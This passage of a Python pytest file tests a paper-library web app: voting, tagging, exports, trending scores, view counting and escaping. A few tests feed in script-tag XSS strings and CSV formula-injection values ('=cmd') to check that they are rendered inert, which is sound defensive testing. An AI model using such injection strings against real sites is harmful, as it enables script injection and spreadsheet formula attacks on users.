    assert answer.json() == {"paper": PAPER, "mine": ["upvote"]}
    assert act_json(web.client, token, PAPER, "save").json() == {
        "paper": PAPER, "mine": ["save", "upvote"]}  # fmt: skip
    assert act_json(web.client, token, PAPER, "upvote", undo=True).json() == {
        "paper": PAPER, "mine": ["save"]}  # fmt: skip
    answer = web.client.post(f"/paper/{PAPER}/hide", json={"undo": False})
    assert_error_json(answer, 403, "This form has expired")
    answer = web.client.post(f"/paper/{PAPER}/hide", content=b"{not json",
                             headers={"X-CSRF-Token": token,
                                      "Content-Type": "application/json"})  # fmt: skip
    assert_error_json(answer, 400, "The request body is not valid JSON.")
    # without a session: a JSON 401, a form goes to the sign-in page and comes back after
    anon = web.new_client()
    anon_token = csrf_in(anon.get("/signin").text)
    assert_error_json(act_json(anon, anon_token, PAPER, "upvote"), 401, "Sign in to upvote")
    answer = act(anon, anon_token, PAPER, "upvote")
    assert answer.status_code == 303
    assert answer.headers["location"] == f"/signin?next=/paper/{PAPER}"


def test_library_lists_saved_papers_with_tags_and_filters_by_tag(web: Web) -> None:
    token = sign_in(web, web.client, "ann@example.org")
    act(web.client, token, PAPER, "save", tags="Graph Neural Nets, reading")
    web.clock.advance(1)
    act(web.client, token, HF_IDS[1], "save", tags="reading,  READING ,")
    act(web.client, token, HF_IDS[2], "upvote")
    view = library(web.client)
    assert view["kind"] == "save" and ids(view) == [HF_IDS[1], PAPER]  # newest first
    assert view["tags"] == [["graph neural nets", 1], ["reading", 2]]
    assert {p["id"]: p["tags"] for p in view["papers"]} == {
        PAPER: ["graph neural nets", "reading"], HF_IDS[1]: ["reading"]}  # fmt: skip
    assert ids(library(web.client, tag="graph neural nets")) == [PAPER]
    assert ids(library(web.client, tag="reading")) == [HF_IDS[1], PAPER]
    assert ids(library(web.client, kind="upvote")) == [HF_IDS[2]]
    page = web.client.get("/library", params={"tag": "graph neural nets"})
    assert page.status_code == 200 and f'href="/paper/{PAPER}"' in page.text
    assert f'href="/paper/{HF_IDS[1]}"' not in page.text
    assert 'href="/library?tag=graph%20neural%20nets" aria-current="page"' in page.text
    assert_error_json(web.client.get("/library.json", params={"kind": "read"}), 400,
                      "kind must be one of upvote, save, hide.")  # fmt: skip


def test_exports_bibtex_csv_and_json(web: Web) -> None:
    token = sign_in(web, web.client, "ann@example.org")
    act(web.client, token, PAPER, "save", tags="reading")
    act(web.client, token, FORMULA.id, "save", tags="=cmd, +sum")
    bib = web.client.get("/library.bib")
    assert bib.status_code == 200 and bib.headers["content-type"].startswith(
        "application/x-bibtex")  # fmt: skip
    assert bib.headers["content-disposition"] == 'attachment; filename="library.bib"'
    parsed = bibtexparser.parse_string(bib.text)
    assert parsed.failed_blocks == []
    eprints = {e.fields_dict["eprint"].value for e in parsed.entries}
    assert eprints == {PAPER, FORMULA.id}
    table = web.client.get("/library.csv")
    assert table.status_code == 200 and table.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(table.text)))
    by_id = {r["id"]: r for r in rows}
    assert set(by_id) == {PAPER, FORMULA.id}
    assert by_id[FORMULA.id]["title"] == "'" + FORMULA.title
    assert by_id[FORMULA.id]["tags"] == "'+sum; =cmd"
    assert by_id[PAPER]["tags"] == "reading" and by_id[PAPER]["url"].startswith("https://arxiv")
    assert not any(v[:1] in "=+-@" for r in rows for v in r.values() if v)
    as_json = library(web.client)
    assert {p["id"]: p["title"] for p in as_json["papers"]}[FORMULA.id] == FORMULA.title


def bib_of(*refs: str) -> str:
    return "".join(
        "@article{p" + str(n) + ", title={Paper " + str(n) + "}, eprint={" + ref + "},"
        " archivePrefix={arXiv}}\n"
        for n, ref in enumerate(refs)
    )


def test_import_pasted_ids_and_bibtex(web: Web) -> None:
    token = sign_in(web, web.client, "ann@example.org")
    accept = {"Accept": "application/json"}
    listed = f"arXiv:{PAPER}v2\n# a comment\n2501.99999\n"
    answer = web.client.post("/library/import", data={"csrf_token": token, "ids": listed},
                             headers=accept)  # fmt: skip
    assert answer.status_code == 200
    assert answer.json() == {"saved": 1, "already": 0, "unknown": ["2501.99999"], "problems": []}
    bibtex = bib_of(HF_IDS[1], "2502.88888", PAPER)
    answer = web.client.post("/library/import", data={"csrf_token": token, "ids": bibtex},
                             headers=accept)  # fmt: skip
    assert answer.json() == {"saved": 1, "already": 1, "unknown": ["2502.88888"], "problems": []}
    assert sorted(ids(library(web.client))) == sorted([PAPER, HF_IDS[1]])
    page = web.client.post("/library/import", data={"csrf_token": token, "ids": bibtex})
    assert page.status_code == 200 and "text/html" in page.headers["content-type"]
    assert "Imported: 0 saved, 2 already in your library, 1 not on this server." in page.text
    assert "2502.88888" in page.text
    answer = web.client.post("/library/import", data={"csrf_token": token, "ids": "  "})
    assert answer.status_code == 400 and "Paste arXiv ids or BibTeX" in answer.text


def test_import_an_uploaded_bib_file(web: Web) -> None:
    """What the library page's form sends (multipart/form-data, a file part)."""
    token = sign_in(web, web.client, "ann@example.org")
    upload = {"file": ("refs.bib", bib_of(HF_IDS[1], "2502.88888").encode(), "text/x-bibtex")}
    answer = web.client.post("/library/import", data={"csrf_token": token, "ids": ""},
                             files=upload, headers={"Accept": "application/json"})  # fmt: skip
    assert answer.json() == {"saved": 1, "already": 0, "unknown": ["2502.88888"], "problems": []}
    assert ids(library(web.client)) == [HF_IDS[1]]


@pytest.mark.parametrize("path", ["/library", "/library?kind=upvote", "/account"])
def test_pages_of_an_account_send_strangers_to_sign_in(web: Web, path: str) -> None:
    answer = web.client.get(path, follow_redirects=False)
    assert answer.status_code == 303
    # the way back keeps the query: after signing in, the reader lands where they were going
    assert answer.headers["location"] == "/signin?next=" + quote(path)
    form = web.client.get(answer.headers["location"]).text
    assert 'name="next" value="' + html.escape(path) + '"' in form


@pytest.mark.parametrize("path", ["/library.json", "/library.bib", "/library.csv"])
def test_library_data_needs_a_session(web: Web, path: str) -> None:
    assert_error_json(
        web.client.get(path), 401, "Sign in first: this page belongs to your account."
    )


# -- trending reacts the way the formula says ----------------------------------------------------


def test_trending_reacts_to_upvotes_and_saves_as_the_formula_says(web: Web) -> None:
    before = ranking(web.client)
    order = [p["id"] for p in before]
    assert order[-1] == HOSTILE.id and set(order[:-1]) == set(HF_IDS)
    old = {p["id"]: p["trending"] for p in before}
    last, other = order[-1], order[-2]
    token = sign_in(web, web.client, "ann@example.org")
    assert act_json(web.client, token, last, "upvote").status_code == 200
    after = ranking(web.client)
    now = {p["id"]: p["trending"] for p in after}
    # weight 3; the vote came after the ranking's as_of (the end of 2024-10-25): counts fully
    assert now[last]["parts"]["upvote"] == 3.0
    assert now[last]["score"] == pytest.approx(old[last]["score"] + 3.0, abs=1e-3)
    assert now[last]["score"] == pytest.approx(sum(now[last]["parts"].values()), abs=1e-3)
    scores = [p["trending"]["score"] for p in after]
    assert scores == sorted(scores, reverse=True)
    assert {k: v for k, v in now.items() if k != last} == {
        k: v for k, v in old.items() if k != last}  # fmt: skip
    act_json(web.client, token, other, "save")
    now = {p["id"]: p["trending"] for p in ranking(web.client)}
    assert now[other]["parts"]["save"] == 4.0
    assert now[other]["score"] == pytest.approx(old[other]["score"] + 4.0, abs=1e-3)
    # a full recompute later agrees with the scores updated at once
    web.clock.advance(601)
    assert {p["id"]: p["trending"] for p in ranking(web.client)} == now
    act_json(web.client, token, last, "upvote", undo=True)
    act_json(web.client, token, other, "save", undo=True)
    final = ranking(web.client)
    for ref in (last, other):
        parts = {p["id"]: p["trending"] for p in final}[ref]["parts"]
        assert parts.get("upvote", 0) == 0 and parts.get("save", 0) == 0
    assert {p["id"]: p["trending"] for p in final} == old
    assert [p["id"] for p in final] == order


def test_page_views_count_once_a_day_per_client_and_never_for_robots_or_prefetches(
    web: Web,
) -> None:
    ref = HOSTILE.id
    assert "view" not in trend(web.client, ref)["parts"]

    def look(user_agent: str, c: TestClient = web.client, **headers: str) -> None:
        answer = c.get(f"/paper/{ref}", headers={"User-Agent": user_agent, **headers})
        assert answer.status_code == 200

    look(BROWSER)
    assert trend(web.client, ref)["parts"]["view"] == 0.2
    look(BROWSER)  # a reload
    look(FIREFOX)  # another browser at the same address: the same network client
    look(GOOGLEBOT)
    look("curl/8.5.0")
    look(FIREFOX, **{"Sec-Purpose": "prefetch"})
    look(FIREFOX, **{"Sec-Purpose": "prefetch;prerender"})
    look(FIREFOX, Purpose="prefetch")
    web.client.get(f"/paper/{ref}.json", headers={"User-Agent": FIREFOX})
    web.client.get(f"/paper/{ref}.json", headers={"User-Agent": BROWSER})
    assert trend(web.client, ref)["parts"]["view"] == 0.2
    look(FIREFOX, web.new_client("198.51.100.7"))  # another reader, from another address
    assert trend(web.client, ref)["parts"]["view"] == 0.4
    web.clock.advance(23 * 3600)  # the first reader, back later the same day
    look(BROWSER)
    assert trend(web.client, ref)["parts"]["view"] == 0.4
    web.clock.advance(3600)  # and the next day
    look(BROWSER)
    parts = trend(web.client, ref)["parts"]
    assert parts["view"] == 0.6
    assert trend(web.client, ref)["score"] == pytest.approx(0.5 + 0.6, abs=1e-3)


def test_fifty_views_with_fifty_browsers_move_the_score_by_one_view(web: Web) -> None:
    ref = HOSTILE.id
    before = trend(web.client, ref)["score"]
    for n in range(50):
        web.client.get(f"/paper/{ref}", headers={"User-Agent": f"{BROWSER} replay/{n}"})
    assert trend(web.client, ref)["score"] - before == pytest.approx(0.2, abs=1e-3)
    assert [p["id"] for p in ranking(web.client)][-1] == ref  # still last


def test_a_signed_in_reader_counts_once_a_day_from_any_address(web: Web) -> None:
    ref = HOSTILE.id
    home, work = web.new_client("198.51.100.8"), web.new_client("198.51.100.9")
    for c in (home, work):
        sign_in(web, c, "ann@example.org")
        for n in range(5):
            assert c.get(f"/paper/{ref}", headers={"User-Agent": f"{BROWSER} {n}"}).is_success
    assert trend(web.client, ref)["parts"]["view"] == 0.2
    web.clock.advance(86400)
    work.get(f"/paper/{ref}", headers={"User-Agent": BROWSER})
    assert trend(web.client, ref)["parts"]["view"] == 0.4


def test_a_replayed_digest_link_counts_one_click_per_recipient(web: Web) -> None:
    assert COUNT_ONCE_S["click"] >= CLICK_TTL_S  # once for as long as a link lives
    secret = web.store.get_secret("web")
    before = trend(web.client, PAPER)["score"]

    def replay(token: str, times: int, *, spread: bool) -> None:
        for n in range(times):
            c = web.new_client(f"198.51.100.{100 + n}") if spread else web.client
            answer = c.get(f"/r/{PAPER}", params={"t": token}, follow_redirects=False,
                           headers={"User-Agent": f"{BROWSER} replay/{n}"})  # fmt: skip
            assert answer.status_code == 303 and answer.headers["location"] == f"/paper/{PAPER}"

    ann = sign(secret, "click", {"p": PAPER, "s": 1}, START + 86400)
    replay(ann, 50, spread=True)  # one recipient's link, from 50 addresses and browsers
    assert trend(web.client, PAPER)["score"] - before == pytest.approx(0.5, abs=1e-3)
    replay(sign(secret, "click", {"p": PAPER, "s": 1}, START + 7200), 1, spread=False)
    assert trend(web.client, PAPER)["parts"]["click"] == 0.5  # the same recipient, another mail
    replay(sign(secret, "click", {"p": PAPER, "s": 2}, START + 86400), 3, spread=True)
    assert trend(web.client, PAPER)["parts"]["click"] == 1.0  # another recipient
    older = sign(secret, "click", {"p": PAPER}, START + 86400)  # mailed before links named one
    replay(older, 50, spread=False)
    assert trend(web.client, PAPER)["parts"]["click"] == 1.5  # once per network client
    web.new_client("203.0.113.5").get(f"/r/{PAPER}", params={"t": older},
                                      headers={"User-Agent": BROWSER})  # fmt: skip
    assert trend(web.client, PAPER)["parts"]["click"] == 2.0


def test_more_than_60_posts_a_minute_from_one_reader_get_429(web: Web) -> None:
    token = sign_in(web, web.client, "ann@example.org")
    for n in range(60):
        answer = act_json(web.client, token, PAPER, "upvote", undo=n % 2 == 1)
        assert answer.status_code == 200, (n, answer.text)
    answer = act_json(web.client, token, PAPER, "upvote")
    assert_error_json(answer, 429, "Too many actions in a minute; wait a moment and try again.")
    answer = act(web.client, token, PAPER, "save")
    assert answer.status_code == 429 and "Too many actions in a minute" in answer.text
    assert ids(library(web.client, kind="upvote")) == [] and ids(library(web.client)) == []
    web.clock.advance(61)
    assert act_json(web.client, token, PAPER, "upvote").json()["mine"] == ["upvote"]


# -- escaping -----------------------------------------------------------------------------------


def test_hostile_title_and_tags_are_inert_in_the_library(web: Web) -> None:
    token = sign_in(web, web.client, "ann@example.org")
    tags = '<b>bold</b>, <script>alert(4)</script>, "quoted", x\x00y'
    assert act(web.client, token, HOSTILE.id, "save", tags=tags).status_code == 303
    [saved] = library(web.client)["papers"]
    assert saved["title"] == HOSTILE.title
    assert saved["tags"] == ["bbold/b", "quoted", "scriptalert(4)/script", "xy"]
    for path in ("/library", "/library?tag=bbold%2Fb", "/account", f"/paper/{HOSTILE.id}"):
        html = web.client.get(path, headers={"User-Agent": GOOGLEBOT}).text
        for raw in ("<script>", "<img src=x", "<b>", "<iframe", 'href="javascript:'):
            assert raw not in html, (path, raw)
        # the only scripts are our own files (cite.js on a paper page)
        assert html.count("<script") == html.count('<script src="/static/'), path
    html = web.client.get("/library").text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "&lt;b&gt;Mallory&lt;/b&gt;" in html


def test_on_the_demo_corpus_votes_and_saves_reorder_trending_as_the_readme_says(
    tmp_path: Path, smtp_server: SMTPCatcher
) -> None:
    """The seed papers (the demo's undated part) alone: every prior is 0, so the README's
    formula says an upvote puts a paper first with 3.00 and a save puts another above it with
    4.00."""
    db = tmp_path / "demo.db"
    store = open_store(str(db))
    import_file(store, SEED)
    app = make_app(store, db, smtp_server, Clock(START))
    with TestClient(app) as client:
        web = Web(app, client, Clock(START), smtp_server, store, db)
        before = ranking(client)
        assert {p["trending"]["score"] for p in before} == {0.0}
        voted, saved = before[-1]["id"], before[-2]["id"]
        token = sign_in(web, client, "demo@example.org")
        assert act(client, token, voted, "upvote").status_code == 303
        after_vote = ranking(client)
        assert after_vote[0]["id"] == voted
        assert after_vote[0]["trending"] == {"score": 3.0, "parts": {"prior": 0.0, "upvote": 3.0}}
        assert act(client, token, saved, "save").status_code == 303
        top = ranking(client)[:2]
        assert [p["id"] for p in top] == [saved, voted]
        assert [p["trending"]["score"] for p in top] == [4.0, 3.0]
        assert act(client, token, saved, "save", undo="1").status_code == 303
        assert ranking(client)[0]["id"] == voted and trend(client, saved)["score"] == 0.0
    store.close()


def test_without_smtp_the_page_says_where_mail_went_and_paperfeed_outbox_shows_the_link(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The demo's set-up: no SMTP host, mail in the Maildir beside the database. The file holds
    the link quoted-printable (cut over lines, `=3D`); `paperfeed outbox` prints it whole, and
    that link signs in."""
    db = tmp_path / "demo.db"
    store = open_store(str(db))
    import_file(store, SEED)
    outbox = OutboxMailer(str(db) + "-outbox", sender=SENDER)
    app = create_app(lambda: SearchEngine(store, str(db) + "-index"), mailer=outbox,
                     base_url="http://testserver", clock=Clock(START),
                     today=lambda: TODAY)  # fmt: skip
    with TestClient(app) as c:
        answer = ask_link(c, "ann@example.org", next_path="/library?kind=upvote")
        assert answer.status_code == 200 and 'id="local-mail"' in answer.text
        assert "<code>paperfeed outbox</code>" in answer.text
        [raw] = (Path(str(db) + "-outbox") / "new").iterdir()
        assert "=3D" in raw.read_text()  # what made copying from the file fail
        assert main(["--db", str(db), "outbox", "--limit", "1"]) == 0
        printed = capsys.readouterr().out
        assert "To: ann@example.org" in printed
        assert "Subject: Your paperfeed sign-in link" in printed
        found = re.search(r"http://testserver/signin/link\?token=(\S+)", printed)
        assert found, printed
        answer = use_link(c, found.group(1))
        assert answer.status_code == 303 and answer.headers["location"] == "/library?kind=upvote"
        form = {"email": "bob@example.org", "csrf_token": csrf_in(c.get("/subscribe").text)}
        subscribed = c.post("/subscribe", data=form)  # the digest's "check your inbox" too
        assert subscribed.status_code == 200 and 'id="local-mail"' in subscribed.text
    store.close()


def test_with_smtp_the_page_does_not_mention_a_local_outbox(web: Web) -> None:
    answer = ask_link(web.client, "ann@example.org")
    assert answer.status_code == 200 and "local-mail" not in answer.text


def test_acting_on_a_list_without_javascript_comes_back_to_the_same_card(web: Web) -> None:
    token = sign_in(web, web.client, "ann@example.org")
    page = web.client.get("/trending?window=week").text
    assert f'id="p-{quote(PAPER)}"' in page
    backs = set(re.findall(r'name="next" value="([^"]*)"', page))
    wanted = f"/trending?window=week#p-{quote(PAPER)}"
    assert wanted in backs  # each card's forms lead back to that card
    back = html.unescape(wanted)
    answer = act(web.client, token, PAPER, "upvote", next=back)
    assert answer.status_code == 303 and answer.headers["location"] == back
    # act.js answers in place from the same route, asked for JSON
    answer = web.client.post(f"/paper/{PAPER}/save", data={"csrf_token": token, "next": back},
                             headers={"Accept": "application/json"})  # fmt: skip
    assert answer.status_code == 200 and answer.json()["mine"] == ["save", "upvote"]


def test_a_saved_paper_shows_its_tags_and_they_can_be_changed_there(web: Web) -> None:
    token = sign_in(web, web.client, "ann@example.org")
    assert 'class="tags-edit"' not in web.client.get(f"/paper/{PAPER}").text  # not saved yet
    act(web.client, token, PAPER, "save", tags="Graph Neural Nets, reading")
    page = web.client.get(f"/paper/{PAPER}").text
    assert 'class="tags-edit"' in page and 'value="graph neural nets, reading"' in page
    assert '<a href="/library?tag=reading">reading</a>' in page
    found = re.search(r'<form class="tags-edit" action="([^"]+)"', page)
    assert found and found.group(1) == f"/paper/{quote(PAPER)}/save"
    answer = web.client.post(found.group(1), data={"csrf_token": token, "tags": "to read, later",
                             "next": f"/paper/{PAPER}"}, follow_redirects=False)  # fmt: skip
    assert answer.status_code == 303 and answer.headers["location"] == f"/paper/{PAPER}"
    [saved] = library(web.client)["papers"]
    assert saved["tags"] == ["later", "to read"] and "save" in saved["mine"]
    assert 'value="later, to read"' in web.client.get(f"/paper/{PAPER}").text
    # the reader's tags show on their cards in any list too
    cards = web.client.get("/trending.json?window=week").json()["papers"]
    assert [p["tags"] for p in cards if p["id"] == PAPER] == [["later", "to read"]]
    # clearing the field clears the tags; the paper stays saved
    web.client.post(found.group(1), data={"csrf_token": token, "tags": ""})
    [saved] = library(web.client)["papers"]
    assert saved["tags"] == [] and "save" in saved["mine"]
